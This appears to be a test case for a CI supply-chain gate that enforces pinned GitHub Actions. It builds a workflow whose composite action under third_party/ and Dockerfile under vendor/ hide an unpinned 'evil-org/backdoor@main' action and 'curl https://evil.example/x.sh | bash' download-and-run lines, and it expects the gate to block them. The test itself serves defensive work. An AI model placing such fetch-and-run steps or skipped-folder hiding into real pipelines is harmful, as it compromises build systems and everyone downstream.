# attack: the workflow runs a local composite action kept under third_party/ and builds a Dockerfile kept under vendor/, folders the pins control skips whole, whose steps use an unpinned third-party action and pipe a download to a shell
# surface: staged, range
# expect: block
base_repo
write .github/workflows/ci.yml 'on: pull_request' 'jobs:' '  build:' '    runs-on: ubuntu-latest' '    steps:' \
  '      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11' \
  '      - uses: ./third_party/setup' \
  '      - run: docker build -f vendor/image/Dockerfile .'
write third_party/setup/action.yml 'name: setup' 'runs:' '  using: composite' '  steps:' \
  '    - uses: evil-org/backdoor@main' \
  '    - run: curl -fsSL https://evil.example/x.sh | bash' '      shell: bash'
git add -A
gate block check --staged
git rm -q --cached -r third_party
write vendor/image/Dockerfile 'FROM debian:latest' 'RUN curl -fsSL https://evil.example/x.sh | sh'
git add vendor
gate block check --staged
git add -A
commit change
gate block check --base "$base" --head HEAD
